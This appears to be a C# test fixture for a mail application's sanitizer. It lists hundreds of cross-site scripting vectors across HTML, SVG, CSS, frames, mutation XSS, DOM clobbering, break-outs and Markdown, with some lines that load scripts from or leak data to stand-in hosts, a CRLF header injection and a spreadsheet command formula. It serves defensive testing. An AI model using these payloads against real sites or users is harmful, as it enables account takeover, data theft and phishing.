namespace Solodesk.Mail.Tests.Hostile;

/// <summary>
/// Known ways of making a page run what a stranger wrote, by the trick they use. Written for these tests after the classes that are publicly
/// described (OWASP's filter evasion, the work on mutation XSS and DOM clobbering). Each one calls <c>alert</c>, so that a browser can tell.
/// </summary>
internal static class ScriptVectors
{
    /// <summary>Everything: for each place that takes a stranger's words.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Elements, .. Handlers, .. Addresses, .. Drawings, .. Styles, .. Frames, .. Mutations, .. Broken, .. Names, .. BreakOuts, .. Marks];

    /// <summary>What is HTML, or was meant to be.</summary>
    public static IReadOnlyList<string> Html { get; } = [.. Elements, .. Handlers, .. Addresses, .. Drawings, .. Styles, .. Frames, .. Mutations, .. Broken, .. Names, .. BreakOuts];

    /// <summary>What is Markdown, and our own marks in it.</summary>
    public static IReadOnlyList<string> Markdown => Marks;

    private static string[] Elements =>
    [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >", "<script src=//x.example/a.js></script>", "<script src=data:,alert(1)></script>",
        "<script type=module>import('data:text/javascript,alert(1)')</script>", "<script type=importmap>{\"imports\":{\"a\":\"data:text/javascript,alert(1)\"}}</script>",
        "<script\n>alert(1)</script\n>", "<script/src=data:,alert(1)></script/>", "<script>/*</script>*/alert(1)</script>", "<script><!--<script>alert(1)//--></script>",
        "<script type=\"text/vbscript\">alert 1</script>", "<script language=javascript>alert(1)</script>", "<script nonce=x>alert(1)</script>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<xml id=a><script>alert(1)</script></xml>", "<template><script>alert(1)</script></template>", "<noembed><script>alert(1)</script></noembed>", "<noframes><script>alert(1)</script></noframes>",
        "<textarea><script>alert(1)</script></textarea>", "<title><script>alert(1)</script></title>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<custom-element onconnected=alert(1)>x</custom-element>", "<a is=x-link href=javascript:alert(1)>x</a>",
        "<object type=text/html><script>alert(1)</script></object>", "<audio><source onerror=alert(1) src=x></audio>", "<slot onslotchange=alert(1)></slot>", "<dialog open onclose=alert(1)>x</dialog>",
    ];

    private static string[] Handlers =>
    [
        "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">", "<img src=x onerror='alert(1)'>", "<img src=x onerror=`alert(1)`>", "<img src=x ONERROR=alert(1)>", "<img src=x oNeRrOr =\n alert(1)>",
        "<img/src=x/onerror=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>", "<img\fsrc=x\fonerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img src=\"x\"onerror=alert(1)>", "<img src='x'onerror=alert(1)>",
        "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=&#x61;&#x6c;ert(1)>", "<img src=x onerror=\"&#0000097lert(1)\">", "<img src=x on\u0000error=alert(1)>", "<img src=x o\u200bnerror=alert(1)>",
        "<img src onerror=alert(1)>", "<img src=1 onload=alert(1)>", "<img usemap=#m src=x><map name=m><area href=javascript:alert(1) shape=default></map>", "<image src=x onerror=alert(1)>",
        "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<body onhashchange=alert(1)><a href=#x>x</a>", "<body onscroll=alert(1)>", "<html onclick=alert(1)>", "<svg onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<button autofocus onfocus=alert(1)>x</button>", "<keygen autofocus onfocus=alert(1)>",
        "<a href=# tabindex=1 autofocus onfocus=alert(1)>x</a>", "<div contenteditable autofocus onfocus=alert(1)>x</div>", "<details open ontoggle=alert(1)>x</details>", "<details ontoggle=alert(1)><summary>x</summary></details>",
        "<video src=x onerror=alert(1)></video>", "<video onloadstart=alert(1) src=x></video>", "<video poster=javascript:alert(1)></video>", "<audio src=x onerror=alert(1)></audio>", "<marquee onstart=alert(1)>x</marquee>",
        "<marquee behavior=alternate onbounce=alert(1)>x</marquee>", "<p onmouseover=alert(1)>x</p>", "<p onpointerenter=alert(1)>x</p>", "<p oncopy=alert(1)>x</p>", "<p onbeforeinput=alert(1) contenteditable>x</p>",
        "<div onanimationstart=alert(1) style=\"animation:x 1s\">x</div>", "<div ontransitionend=alert(1) style=\"transition:color 1s\">x</div>", "<div oncontentvisibilityautostatechange=alert(1) style=\"content-visibility:auto\">x</div>",
        "<div popover onbeforetoggle=alert(1) id=pop>x</div><button popovertarget=pop>x</button>", "<input type=hidden oncontentvisibilityautostatechange=alert(1)>", "<p hx-on:click=alert(1)>x</p>", "<p data-hx-on:load=alert(1)>x</p>",
        "<p hx-get=/inbox hx-trigger=load hx-on::after-request=alert(1)>x</p>", "<p x=\"\" onclick=\"alert(1)\"y>x</p>", "<p title=`x onclick=alert(1)`>x</p>", "<p class=\"x\u00a0onclick=alert(1)\">x</p>", "<p / onclick = alert(1) / >x</p>",
    ];

    private static string[] Addresses =>
    [
        "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"\tjavascript:alert(1)\">x</a>", "<a href=\"\njavascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\rscript:alert(1)\">x</a>", "<a href=\"java\r\nscript\t:alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"\u001fjavascript:alert(1)\">x</a>", "<a href=\"java\u0000script:alert(1)\">x</a>", "<a href=\"\u00a0javascript:alert(1)\">x</a>", "<a href=\"\u2028javascript:alert(1)\">x</a>", "<a href=\"\ufeffjavascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<a href=\"&#0000106avascript:alert(1)\">x</a>", "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>", "<a href=\"java&NewLine;script:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"javascript&#58;alert(1)\">x</a>", "<a href=\"javascript&#x3a;alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"javascript://x.example/%0aalert(1)\">x</a>", "<a href=\"javascript:%61lert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"VBS:alert(1)\">x</a>", "<a href=\"livescript:alert(1)\">x</a>", "<a href=\"mocha:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">x</a>", "<a href=\"data:application/xhtml+xml,x\">x</a>",
        "<a href=\"blob:https://x.example/1\">x</a>", "<a href=\"filesystem:https://x.example/1\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"view-source:javascript:alert(1)\">x</a>", "<a href=\"jar:https://x.example!/a\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>", "<a href=\"intent:alert(1)\">x</a>", "<a href=\"javascript\u003aalert(1)\" ping=\"javascript:alert(1)\">x</a>", "<a href=https://x.example ping=https://y.example>x</a>",
        "<a xlink:href=javascript:alert(1)>x</a>", "<a href=https://x.example target=_top onclick=alert(1)>x</a>", "<img src=javascript:alert(1)>", "<img src=\"jav&#x09;ascript:alert(1)\">", "<img src=`javascript:alert(1)`>",
        "<img src=vbscript:msgbox(1)>", "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<img longdesc=javascript:alert(1) src=x>", "<img srcset=\"javascript:alert(1) 1x\">", "<img src=x srcset=\"x 1x, javascript:alert(1) 2x\">",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">", "<img src=\"data:text/html;image/png,<script>alert(1)</script>\">", "<picture><source srcset=\"javascript:alert(1)\"><img src=x></picture>",
        "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>", "<body background=javascript:alert(1)>", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<q cite=javascript:alert(1)>x</q>", "<del cite=javascript:alert(1)>x</del>",
        "<bgsound src=javascript:alert(1)>", "<input type=image src=javascript:alert(1)>", "<isindex action=javascript:alert(1)>", "<link rel=import href=data:text/html,x>", "<html manifest=javascript:alert(1)>", "<a href=\"https:javascript:alert(1)\">x</a>",
        "<a href=\"//x.example\">x</a>", "<a href=\"/\\x.example\">x</a>", "<a href=\"\\\\x.example\">x</a>", "<a href=\"ｊavascript:alert(1)\">x</a>", "<a href=\"javascript：alert(1)\">x</a>",
    ];

    private static string[] Drawings =>
    [
        "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&lpar;1&rpar;</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg><script xlink:href=data:,alert(1)></script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><a href=javascript:alert(1)><rect width=9 height=9 /></a></svg>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1) /></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>", "<svg><animatetransform onbegin=alert(1)></svg>", "<svg><animate attributeName=href from=javascript:alert(1) to=x /></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\" /></svg>", "<svg><use xlink:href=//x.example/a.svg#x /></svg>", "<svg><image href=javascript:alert(1) /></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1) /></foreignObject></svg>", "<svg><foreignobject><body onload=alert(1)></foreignobject></svg>", "<svg><desc><img src=x onerror=alert(1)></desc></svg>", "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
        "<svg><style>*{background:url(javascript:alert(1))}</style></svg>", "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>", "<svg><discard onbegin=alert(1)></svg>", "<svg><image xlink:href=x onerror=alert(1) /></svg>",
        "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><a><circle r=9 /><animate attributeName='xlink:href' begin=0 from='javascript:alert(1)' to='&' /></a></svg>", "<svg><!--<style>--><img src=x onerror=alert(1)></svg>",
        "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]>", "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<math href=javascript:alert(1)>x</math>", "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<math><maction actiontype=statusline#javascript:alert(1) xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><mtext><script>alert(1)</script></mtext></math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>", "<math><mi/xlink:href=javascript:alert(1)>x", "<math><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style>",
    ];

    private static string[] Styles =>
    [
        "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"width:exp/**/ression(alert(1))\">x</p>", "<p style=\"width:\\65xpression(alert(1))\">x</p>", "<p style=\"behavior:url(x.htc)\">x</p>",
        "<p style=\"-moz-binding:url(x.xml#a)\">x</p>", "<p style=\"background:\\75\\72\\6c(javascript:alert(1))\">x</p>", "<p style=\"list-style-image:url('javascript:alert(1)')\">x</p>", "<p style=\"color:red;/*\\*/background:url(//x.example)\">x</p>",
        "<p style='background-image:url(\"javascript:alert(1)\")'>x</p>", "<p style=\"background:url('//x.example/a?b')\">x</p>", "<p style=\"content:url(data:image/svg+xml,<svg/onload=alert(1)>)\">x</p>", "<p style=\"color:red}*{background:url(//x.example)\">x</p>",
        "<p style=\"@import 'javascript:alert(1)'\">x</p>", "<p style=\"position:fixed;inset:0;z-index:99999;background:white\">x</p>", "<p style=\"x:&quot;><img src=x onerror=alert(1)>\">x</p>", "<p style=\"cursor:image-set('javascript:alert(1)' 1x)\">x</p>",
        "<style>@import 'javascript:alert(1)'</style>", "<style>@\\69mport '//x.example/a.css'</style>", "<style>li{list-style-image:url(javascript:alert(1))}</style><ul><li>x</ul>", "<style>body{-moz-binding:url(//x.example/a.xml#b)}</style>",
        "<style><!--</style><script>alert(1)</script>-->", "<style></style\u0020><script>alert(1)</script>", "<style>input[value^=a]{background:url(//x.example/a)}</style>", "<style/onload=alert(1)>x</style>", "<link rel=stylesheet href=javascript:alert(1)>",
        "<link rel=stylesheet href=//x.example/a.css onload=alert(1)>", "<div style=\"color:red\u0000;background:url(javascript:alert(1))\">x</div>", "<font style='font-family:\"x;background:url(javascript:alert(1))\"'>x</font>",
    ];

    private static string[] Frames =>
    [
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>", "<iframe onload=alert(1)></iframe>",
        "<iframe src=//x.example></iframe>", "<iframe name=x></iframe><a target=x href=javascript:alert(1)>x</a>", "<iframe src=\"java&#x0d;script:alert(1)\">", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<frame src=javascript:alert(1)>",
        "<object data=javascript:alert(1)></object>", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>", "<object type=application/x-shockwave-flash data=//x.example/a.swf><param name=allowscriptaccess value=always></object>",
        "<object classid=clsid:x><param name=url value=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<embed code=//x.example/a.swf allowscriptaccess=always>", "<applet code=x codebase=javascript:alert(1)></applet>",
        "<portal src=javascript:alert(1)></portal>", "<fencedframe src=//x.example></fencedframe>", "<layer src=javascript:alert(1)></layer>", "<form action=javascript:alert(1)><button>x</button></form>", "<form action=//x.example><input name=password><button>x</button></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>", "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>", "<input type=submit formaction=javascript:alert(1)>", "<form><input type=image formaction=javascript:alert(1)></form>",
        "<form oninput=alert(1)><input></form>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>alert(1)</script>\">", "<meta http-equiv=refresh content='0; url=//x.example'>",
        "<meta http-equiv=Link content=\"<javascript:alert(1)>; rel=stylesheet\">", "<meta http-equiv=Set-Cookie content=\"a=<script>alert(1)</script>\">", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<meta name=csrf content=x>",
        "<base href=javascript:alert(1)//>", "<base href=//x.example/>", "<base target=\"<script>alert(1)</script>\">", "<link rel=prefetch href=//x.example>", "<link rel=manifest href=//x.example>",
    ];

    private static string[] Mutations =>
    [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<noscript><style></noscript><img src=x onerror=alert(1)>", "<math><mtext></p><style><img src=x onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>", "<math><mi><table><mi><style><mi></style><img src=x onerror=alert(1)>",
        "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">", "<p><svg><style><p title=\"</style><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">", "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">", "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<style><p title=\"</style><img src=x onerror=alert(1)>\">", "<template><p title=\"</template><img src=x onerror=alert(1)>\">", "<select><template><p title=\"</select><img src=x onerror=alert(1)>\">", "<select><style></select><img src=x onerror=alert(1)>",
        "<select><option><style></option></select><b><img src=x onerror=alert(1)></style></option>", "<option><style></option></select><img src=x onerror=alert(1)></style>", "<table><caption><svg><title><table><style><!--</style><img src=x onerror=alert(1)>",
        "<table><td><svg><desc><td><style><!--</style><img src=x onerror=alert(1)>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<?php ><img src=x onerror=alert(1)>?>",
        "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=alert(1)>\">]>&y;", "<div id=a><div><math><mtext><a><a><style><img src=x onerror=alert(1)>", "<a><a><a><img src=x onerror=alert(1)></a>", "<b><p><b><p><i></b><img src=x onerror=alert(1)></i>",
        "<p title=\"&lt;/p>&lt;img src=x onerror=alert(1)>\">x</p>", "<img alt=\"`><img src=x onerror=alert(1)>\">", "<img alt=\"``onerror=alert(1)\" src=x>", "<listing>\n<img src=x onerror=alert(1)></listing>", "<pre>\n\n<img src=x onerror=alert(1)></pre>",
        "<body><template shadowrootmode=open><img src=x onerror=alert(1)></template></body>", "<div><template shadowrootmode=open><script>alert(1)</script></template></div>", "<frameset><frame></frameset><img src=x onerror=alert(1)>",
        "<details><summary></details><style></summary><img src=x onerror=alert(1)>", "<svg><font color=x><img src=x onerror=alert(1)>", "<math><font face=x><style><img src=x onerror=alert(1)></style>", "<ruby><rt><style></ruby><img src=x onerror=alert(1)>",
    ];

    private static string[] Broken =>
    [
        "<img src=x onerror=alert(1)", "<img src=\"x", "<img src=x onerror=\"alert(1)", "<script>alert(1)", "<script", "<a href=\"javascript:alert(1)", "<<script>alert(1)//<</script>", "<<img src=x onerror=alert(1)>>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<\u0000script>alert(1)</script>", "<script\u0000>alert(1)</script>", "<im\u0000g src=x onerror=alert(1)>", "<img \u0000src=x onerror=alert(1)>", "< script>alert(1)</script>", "</ script><script>alert(1)</script>",
        "</p/><script>alert(1)</script>", "</><img src=x onerror=alert(1)>", "<//><script>alert(1)</script>", "<1><img src=x onerror=alert(1)>", "<a\"><img src=x onerror=alert(1)>", "<a'\"><script>alert(1)</script>", "<x/><img/><script>alert(1)</script>",
        "<img \"\"\"><script>alert(1)</script>\">", "<img src=x:x onerror\n=\nalert(1)>", "<iframe<?php echo chr(11)?> onload=alert(1)>", "<a href=x:\u00ff onclick=alert(1)>x</a>", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "＜script＞alert(1)＜/script＞",
        "<ſcript>alert(1)</ſcript>", "<script\u00a0>alert(1)</script>", "<\u200bscript>alert(1)</script>", "\u202e<script>alert(1)</script>", "\ud83d<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)\ud800>", "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;", "\\u003cimg src=x onerror=alert(1)\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<img src=x onerror=alert(1)><img src=x onerror=alert(1)>", "<b <script>alert(1)</script>0", "<div<img src=x onerror=alert(1)>", "<\u2028img src=x onerror=alert(1)>", "<img\u000bsrc=x\u000bonerror=alert(1)>",
    ];

    private static string[] Names =>
    [
        "<form id=attributes><input name=childNodes></form>", "<form name=body><input name=firstChild></form>", "<img name=cookie src=x>", "<img name=currentScript src=x>", "<form id=documentElement></form>", "<a id=defaultView href=javascript:alert(1)>x</a>",
        "<a id=Solodesk href=javascript:alert(1)>x</a><a id=Solodesk name=open href=javascript:alert(1)>y</a>", "<img name=getElementById src=x>", "<form id=createElement></form>", "<input name=attributes>", "<input id=parentNode name=nodeName>",
        "<a id=solodeskUser name=hash href=\"cid:alert(1)\">x</a>", "<iframe name=Solodesk srcdoc=\"<a id=open href=javascript:alert(1)></a>\"></iframe>", "<form id=x><output name=innerHTML>alert(1)</output></form>", "<embed name=querySelector>", "<object id=htmx></object>",
        "<div id=palette data-results>x</div>", "<main id=main class=desk onclick=alert(1)>x</main>", "<div class=\"toast\" data-undo data-key=e data-live=*>x</div>", "<svg id=location><a id=href></a></svg>",
    ];

    /// <summary>Ends what it may stand in: an attribute, a text field, a title, a script, a comment, a style.</summary>
    private static string[] BreakOuts =>
    [
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) `", "></title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</script><script>alert(1)</script>", "</SCRIPT ><img src=x onerror=alert(1)>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "--!><script>alert(1)</script>", "]]><script>alert(1)</script>", "</noscript><script>alert(1)</script>",
        "</option></select><img src=x onerror=alert(1)>", "</template><img src=x onerror=alert(1)>", "</iframe><img src=x onerror=alert(1)>", "</svg><img src=x onerror=alert(1)>", "</a></p></div></main></body></html><script>alert(1)</script>", "\\\"><script>alert(1)</script>",
        "\\'-alert(1)//", "'-alert(1)-'", "\"-alert(1)-\"", "\";alert(1)//", "';alert(1)//", "</script\n>alert(1)", "\u2028alert(1)//", "<!--<script>", "<!--<script></script>alert(1)", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "#{alert(1)}", "@(alert(1))", "%><script>alert(1)</script>",
        "javascript:alert(1)", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "data:text/html,<script>alert(1)</script>", "\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "\r\nX: <img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0", "<a href=\"/inbox/bulk?do=delete\">x</a>", "]]></summary><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
    ];

    private static string[] Marks =>
    [
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\nscript:alert(1))", "[a](java\tscript:alert(1))", "[a](<java\tscript:alert(1)>)", "[a](<javascript:alert(1)>)", "[a]( javascript:alert(1))", "[a](\u0001javascript:alert(1))", "[a](\u00a0javascript:alert(1))",
        "[a](&#106;avascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](java&Tab;script:alert(1))", "[a](java&NewLine;script:alert(1))", "[a](&#x6A&#x61vascript:alert(1))", "[a](\\javascript:alert(1))", "[a](javascript\\:alert(1))", "[a](j\\avascript:alert(1))", "[a](%6aavascript:alert(1))",
        "[a](javascript://x.example/%0aalert(1))", "[a](javascript:this;alert(1))", "[a](vbscript:msgbox(1))", "[a](data:text/html,<script>alert(1)</script>)", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[a](file:///etc/passwd)", "[a](//evil.example)", "[a](/\\evil.example)",
        "[a](/\t/evil.example)", "[a](</\t/evil.example>)", "[a](\\\\evil.example)", "[a](https:javascript:alert(1))", "[a](http://x.example \"t\\\" onmouseover=alert(1) x=\\\"\")", "[a](http://x.example 't\" onmouseover=\"alert(1)')", "[a](http://x.example (t\" onmouseover=\"alert(1)))", "[a](x\" onclick=\"alert(1))",
        "[a](https://x.example\" onclick=\"alert(1))", "[a](https://x.example'onclick='alert(1))", "[a](https://x.example{onclick=alert(1)})", "[a](https://x.example){onclick=alert(1)}", "[a](https://x.example){: onclick=alert(1)}", "# a {onclick=alert(1) #attributes}", "*a*{onmouseover=alert(1)}", "{onload=alert(1)}\n# a",
        "![a](javascript:alert(1))", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)", "![a](data:image/svg+xml,<svg onload=alert(1)>)", "![a](x\" onerror=\"alert(1))", "![a](x 'onerror=alert(1)')", "![\" onerror=\"alert(1)](x)", "![a\"onerror=alert(1) x=\"](https://x.example/a.png)", "![a](cid:\" onerror=\"alert(1))",
        "![<img src=x onerror=alert(1)>](x)", "[![a](javascript:alert(1))](javascript:alert(1))", "[<img src=x onerror=alert(1)>](https://x.example)", "[a][b]\n\n[b]: javascript:alert(1)", "[a][b]\n\n[b]: <javascript:alert(1)> \"x\"", "[b]\n\n[b]: data:text/html,<script>alert(1)</script>", "[a][B]\n\n[b]:\njavascript:alert(1)\n'x\" onclick=\"alert(1)'",
        "![a][b]\n\n[b]: javascript:alert(1)", "[b]: x\n[b]: javascript:alert(1)\n\n[b]", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<data:text/html,<script>alert(1)</script>>", "<vbscript:msgbox(1)>", "<https://x.example\"onclick=alert(1)>", "<https://x.example/'onclick='alert(1)>", "<a@x.example\"onclick=alert(1)>",
        "<mailto:a@x.example?subject=\"onclick=alert(1)>", "https://x.example\"onclick=\"alert(1)", "https://x.example/<script>alert(1)</script>", "https://x.example/'onmouseover='alert(1)", "www.x.example\"onclick=\"alert(1)", "javascript:alert(1)//https://x.example", "mailto:a@x.example\"onclick=alert(1)",
        "<div>\n<script>alert(1)</script>\n</div>", "<pre><img src=x onerror=alert(1)></pre>", "text <b onclick=alert(1)>b</b> text", "<!-- \n--><script>alert(1)</script>", "<?x ?><img src=x onerror=alert(1)>", "<!X><img src=x onerror=alert(1)>", "<![CDATA[x]]><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>\n\n**x**\n\n</details>",
        "`<script>alert(1)</script>`", "``<img src=x onerror=alert(1)>``", "```\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "```html\" onmouseover=\"alert(1)\nx\n```", "``` <img src=x onerror=alert(1)>\nx\n```", "~~~' onclick='alert(1)\nx\n~~~", "```\n```<img src=x onerror=alert(1)>", "    <script>alert(1)</script>",
        "# <img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>\n===", "## a\" id=\"attributes", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "| a |\n|:--\" onclick=\"alert(1)|\n| b |", "- <img src=x onerror=alert(1)>\n  1. [a](javascript:alert(1))", "1. <svg/onload=alert(1)>\n2. x",
        "- [ ] <input autofocus onfocus=alert(1)>", "> <img src=x onerror=alert(1)>", "> [!tip\"><script>alert(1)</script>] x", "> [!tip] <img src=x onerror=alert(1)>", "> [!TIP onclick=alert(1)] x", "> [!warning] [a](javascript:alert(1))", "> [!提示] ![a](javascript:alert(1))", "> [!danger]<svg/onload=alert(1)>",
        "> [!note](javascript:alert(1)) x", "> [!note][b]\n\n[b]: javascript:alert(1)", "> [!tip] *<img src=x onerror=alert(1)>*\n> <script>alert(1)</script>", "[[<script>alert(1)</script>]]", "[[x](javascript:alert(1))]]", "[[x](javascript:alert(1)) [y]]", "[[\"onclick=\"alert(1)]]", "[[x\\]](javascript:alert(1))", "[[ ![a](javascript:alert(1)) ]]",
        "https://www.youtube.com/watch?v=\"onload=\"alert(1)", "<https://youtu.be/\"><script>alert(1)</script>>", "[x](https://www.bilibili.com/video/\"onclick=\"alert(1))", "[<img src=x onerror=alert(1)>](https://vimeo.com/1)", "https://x.example/a.mp4\"onerror=\"alert(1)", "javascript:alert(1)//.mp4", "[x](javascript://youtube.com/%0aalert(1))",
        "**<b onclick=alert(1)>x</b>**", "~~<img src=x onerror=alert(1)>~~", "~<img src=x onerror=alert(1)>~ ^<svg/onload=alert(1)>^", "++<img src=x onerror=alert(1)>++ ==<svg/onload=alert(1)>==", "\\<script>alert(1)</script>", "\\\\<script>alert(1)</script>", "a\\\n<img src=x onerror=alert(1)>", "a  \n<img src=x onerror=alert(1)>",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML", ":::<img src=x onerror=alert(1)>\nx\n:::", "$$<img src=x onerror=alert(1)>$$", "---\ntitle: <script>alert(1)</script>\n---\n\n<img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "[a](https://x.example \"&quot; onclick=&quot;alert(1)\")", "![&quot; onerror=&quot;alert(1)](https://x.example/a.png \"&quot; onload=&quot;alert(1)\")", "[a](<https://x.example/\" onclick=\"alert(1)>)", "[a](https://x.example/\u0000\"onclick=alert(1))", "[\u202ea](javascript:alert(1))", "[a](ｊavascript:alert(1))", "[a](javascript：alert(1))",
    ];
}
